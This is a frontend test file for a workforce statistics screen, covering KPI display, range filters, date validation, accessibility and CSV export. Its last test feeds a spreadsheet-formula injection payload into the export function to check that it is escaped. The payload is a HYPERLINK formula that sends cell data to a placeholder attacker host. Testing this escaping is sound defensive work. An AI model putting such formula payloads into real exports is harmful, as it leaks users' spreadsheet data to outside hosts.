import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { STATS_KPI_UNITS, STATS_KPIS, type StatsAnswer } from '@wac/shared/schemas/stats';
import { HttpResponse, http } from 'msw';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { Route, Routes } from 'react-router';
import { renderScreen } from '../../test/render';
import { ORIGIN, server } from '../../test/server';
import { seriesCsv } from '../../components/charts/chart-card';
import StatsScreen from './stats-screen';

const answer = (range: string): StatsAnswer => ({
  timeZone: 'UTC',
  today: '2026-11-05',
  period: { from: '2026-10-01', to: '2026-10-31' },
  previousPeriod: { from: '2026-08-31', to: '2026-09-30' },
  kpis: STATS_KPIS.map((key, i) => ({
    key,
    unit: STATS_KPI_UNITS[key],
    value: range === 'lastMonth' ? 40 + i : 10 + i,
    previous: 10,
    // Average hours: a change too small for the one decimal the badge writes.
    change: key === 'avgWorkedHours' ? -0.03 : range === 'lastMonth' ? 30 + i : i,
  })),
  headcount: [
    { date: '2026-10-01', headcount: 10 },
    { date: '2026-10-31', headcount: 12 },
  ],
  weeks: [{ weekStart: '2026-09-28', attendanceRate: 90, latenessRate: 12.5 }],
  weekdays: [1, 2, 3, 4, 5, 6, 7].map((weekday) => ({ weekday, present: 4, late: 1, latenessRate: 25 })),
  timeOff: [
    { typeUuid: '00000000-0000-4000-8000-000000000001', name: 'Vacation', color: 'teal', unit: 'days', amount: 12.5 },
    { typeUuid: '00000000-0000-4000-8000-000000000002', name: 'Doctor', color: 'grape', unit: 'hours', amount: 6 },
  ],
  policies: [
    {
      policyUuid: '00000000-0000-4000-8000-000000000003',
      title: 'Code of conduct',
      assigned: 8,
      acknowledged: 2,
      overdue: 5,
      completion: 25,
    },
    {
      policyUuid: '00000000-0000-4000-8000-000000000004',
      title: 'Security',
      assigned: 4,
      acknowledged: 3,
      overdue: 0,
      completion: 75,
    },
  ],
});

/** No teams and no departments to filter by. */
const noFilterOptions = () =>
  ['teams', 'departments'].map((list) =>
    http.get(`${ORIGIN}/api/${list}`, () => HttpResponse.json({ data: [], page: 1, itemsPerPage: 100, totalItems: 0 })),
  );

beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
afterAll(() => server.close());
afterEach(() => {
  server.resetHandlers();
  vi.restoreAllMocks();
});

describe('stats screen', () => {
  it('asks for the chosen range, shows KPIs and a table alternative per chart', async () => {
    const asked: string[] = [];
    server.use(
      http.get(`${ORIGIN}/api/stats`, ({ request }) => {
        const range = new URL(request.url).searchParams.get('range') ?? '';
        asked.push(range);
        return HttpResponse.json(answer(range));
      }),
      ...noFilterOptions(),
    );
    renderScreen(<StatsScreen />);
    await waitFor(() => expect(screen.getByTestId('kpi-headcountStart-value')).toHaveTextContent('10'));
    expect(screen.getByTestId('kpi-attendanceRate-value')).toHaveTextContent('15%');
    // A change that rounds to nothing says so (not a red "▼ 0").
    expect(within(screen.getByTestId('kpi-avgWorkedHours')).getByText('No change')).toBeInTheDocument();
    await userEvent.click(screen.getByText('Last Month'));
    await waitFor(() => expect(screen.getByTestId('kpi-headcountStart-value')).toHaveTextContent('40'));
    expect(asked).toEqual(['last28', 'lastMonth']);
    await userEvent.click(screen.getByTestId('weekdays-toggle'));
    expect(within(screen.getByTestId('weekdays-table')).getAllByRole('row')).toHaveLength(8);
    // Time off by type, each type in its own unit.
    const timeOff = within(screen.getByTestId('timeOff-table'));
    expect(timeOff.getByRole('rowheader', { name: 'Vacation (days)' })).toBeInTheDocument();
    expect(timeOff.getByRole('rowheader', { name: 'Doctor (hours)' })).toBeInTheDocument();
    expect(timeOff.getByText('12.5')).toBeInTheDocument();
    // Completion by policy, the least complete first, as percentages.
    const policies = within(screen.getByTestId('policies-table'));
    expect(policies.getAllByRole('rowheader').map((h) => h.textContent)).toEqual(['Code of conduct', 'Security']);
    expect(policies.getByText('25%')).toBeInTheDocument();
    expect(policies.getByText('75%')).toBeInTheDocument();
  });

  it('opens the range and filters a link names, and keeps a new choice in the address', async () => {
    const asked: string[] = [];
    server.use(
      http.get(`${ORIGIN}/api/stats`, ({ request }) => {
        const q = new URL(request.url).searchParams;
        asked.push(`${q.get('range')} ${q.get('team') ?? '-'}`);
        return HttpResponse.json(answer(q.get('range') ?? ''));
      }),
      ...noFilterOptions(),
    );
    const TEAM = '70000000-0000-4000-8000-000000000001';
    renderScreen(
      <Routes>
        <Route path="/stats" element={<StatsScreen />} />
      </Routes>,
      `/stats?range=lastMonth&team=${TEAM}`,
    );
    await waitFor(() => expect(asked).toEqual([`lastMonth ${TEAM}`]));
    expect(screen.getByRole('radio', { name: 'Last Month' })).toBeChecked();
    await userEvent.click(screen.getByText('Last Year'));
    await waitFor(() => expect(asked.at(-1)).toBe(`lastYear ${TEAM}`));
  });

  it("covers the previous range's figures while the chosen range's are on their way", async () => {
    let release: () => void = () => {};
    const held = new Promise<void>((r) => {
      release = r;
    });
    server.use(
      http.get(`${ORIGIN}/api/stats`, async ({ request }) => {
        const range = new URL(request.url).searchParams.get('range') ?? '';
        if (range === 'lastMonth') await held;
        return HttpResponse.json(answer(range));
      }),
      ...noFilterOptions(),
    );
    renderScreen(<StatsScreen />);
    await waitFor(() => expect(screen.getByTestId('kpi-headcountStart-value')).toHaveTextContent('10'));
    expect(screen.getByTestId('stats-figures')).toHaveAttribute('aria-busy', 'false');
    await userEvent.click(screen.getByText('Last Month'));
    // Last 28 days' figures are still there, but marked busy: not to be read as last month's.
    await waitFor(() => expect(screen.getByTestId('stats-figures')).toHaveAttribute('aria-busy', 'true'));
    expect(screen.getByTestId('kpi-headcountStart-value')).toHaveTextContent('10');
    release();
    await waitFor(() => expect(screen.getByTestId('kpi-headcountStart-value')).toHaveTextContent('40'));
    expect(screen.getByTestId('stats-figures')).toHaveAttribute('aria-busy', 'false');
  });

  it("offers no custom day after the company's today, and says a refused day at its field", async () => {
    const asked: string[] = [];
    server.use(
      http.get(`${ORIGIN}/api/stats`, ({ request }) => {
        const q = new URL(request.url).searchParams;
        asked.push(q.toString());
        if (q.get('range') !== 'custom') return HttpResponse.json(answer('last28'));
        return HttpResponse.json(
          {
            code: 'VALIDATION_FAILED',
            message: 'Some fields are not valid.',
            issues: [
              { path: 'querystring.from', code: 'rangeInFuture', message: 'The range must not start after today.' },
            ],
          },
          { status: 400 },
        );
      }),
      ...noFilterOptions(),
    );
    const user = userEvent.setup();
    renderScreen(<StatsScreen />);
    await waitFor(() => expect(screen.getByTestId('kpi-headcountStart-value')).toHaveTextContent('10'));
    await user.click(screen.getByText('Custom'));
    // (For jsdom a calendar is mid-transition, so its buttons are found with `hidden`; the one just
    // opened is the last in the page.)
    const last = (name: string) => screen.queryAllByRole('button', { name, hidden: true }).at(-1);
    /** Opens a field's calendar (once: a second click on the field would close it) and finds a day. */
    const open = async (field: string, day: string) => {
      await user.click(screen.getByRole('button', { name: field }));
      await waitFor(() => expect(last('Previous month')).toBeDefined());
      for (let i = 0; i < 24 && !last(day); i++) await user.click(last('Previous month')!);
      return last(day)!;
    };
    // The company's today (5 November, from the answer) is the last day offered.
    expect(await open('From', 'Friday, November 6, 2026')).toBeDisabled();
    const today = last('Thursday, November 5, 2026')!;
    expect(today).toBeEnabled();
    await user.click(today);
    await waitFor(() => expect(screen.getByRole('button', { name: 'From' })).toHaveTextContent('Nov 5, 2026'));
    await user.click(await open('To', 'Thursday, November 5, 2026'));
    // (A loaded machine takes seconds over the calendar's clicks: CI's run of every tier at once.)
    await waitFor(() => expect(asked.at(-1)).toBe('range=custom&from=2026-11-05&to=2026-11-05'), { timeout: 10_000 });
    expect(
      await screen.findByText('The range must not start after today.', {}, { timeout: 10_000 }),
    ).toBeInTheDocument();
    expect(screen.queryByText('Some fields are not valid.')).not.toBeInTheDocument();
  });

  it('shows the definition of a KPI inside the main landmark, named by the button', async () => {
    server.use(
      http.get(`${ORIGIN}/api/stats`, () => HttpResponse.json(answer('last28'))),
      ...noFilterOptions(),
    );
    renderScreen(
      <main>
        <StatsScreen />
      </main>,
    );
    const info = await screen.findByRole('button', { name: 'Definition of Headcount at start' });
    await userEvent.hover(info);
    const tip = await screen.findByRole('tooltip', { hidden: true });
    // A tooltip in a portal sat outside every landmark (axe region, the stats screen with a definition shown).
    expect(screen.getByRole('main')).toContainElement(tip);
    expect(info).toHaveAttribute('aria-describedby', tip.id);
  });

  it('exports a series as CSV with raw numbers', () => {
    expect(
      seriesCsv(
        'Date',
        ['2026-10-01', '2026-10-02'],
        [{ key: 'h', label: 'Headcount, end', color: '', values: [10, null] }],
        0,
      ),
    ).toBe('Date,"Headcount, end"\n2026-10-01,10\n2026-10-02,\n');
  });

  it('rounds a series CSV to the decimals the chart shows, written plainly', () => {
    expect(
      seriesCsv(
        'Week of',
        ['2026-09-28', '2026-10-05', '2026-10-12'],
        [{ key: 'r', label: 'Rate', color: '', values: [7.333333333, 1234.25, -0.04] }],
        1,
      ),
    ).toBe('Week of,Rate\n2026-09-28,7.3\n2026-10-05,1234.3\n2026-10-12,0\n');
  });

  it("names a chart's downloads after the chart and the period, its figures as the table shows them", async () => {
    const named: string[] = [];
    const saved: Blob[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      named.push(this.download);
    });
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
      saved.push(blob as Blob);
      return 'blob:stats';
    });
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
    server.use(
      http.get(`${ORIGIN}/api/stats`, () =>
        HttpResponse.json({
          ...answer('last28'),
          weeks: [{ weekStart: '2026-09-28', attendanceRate: 91.66666666666667, latenessRate: 7.333333333 }],
        }),
      ),
      ...noFilterOptions(),
    );
    const user = userEvent.setup();
    renderScreen(<StatsScreen />);
    await user.click(await screen.findByTestId('weeks-csv'));
    expect(named).toEqual(['attendance-and-lateness-by-week-2026-10-01-2026-10-31.csv']);
    const csv = await saved[0]!.text();
    expect(csv).toBe('Week of,Attendance rate,Lateness rate\n2026-09-28,91.7,7.3\n');
    // The table says the same figures.
    await user.click(screen.getByTestId('weeks-toggle'));
    const row = within(screen.getByTestId('weeks-table')).getAllByRole('row')[1]!;
    expect(row).toHaveTextContent('91.7%');
    expect(row).toHaveTextContent('7.3%');
  });

  it('guards the names in a series CSV against spreadsheet formulas, not its numbers', () => {
    // A time-off type (its name chosen by an admin) is an x value of the time-off chart.
    const csv = seriesCsv(
      'Type',
      ['=HYPERLINK("https://evil.test/?"&A1,"Vacation") (days)', 'Sick;@SUM(1) (days)'],
      [{ key: 't', label: '+Taken', color: '', values: [-1.5, 2] }],
      1,
    );
    expect(csv).toBe(
      'Type,\'+Taken\n"\'=HYPERLINK(""https://evil.test/?""&A1,""Vacation"") (days)",-1.5\n"Sick;\'@SUM(1) (days)",2\n',
    );
  });
});
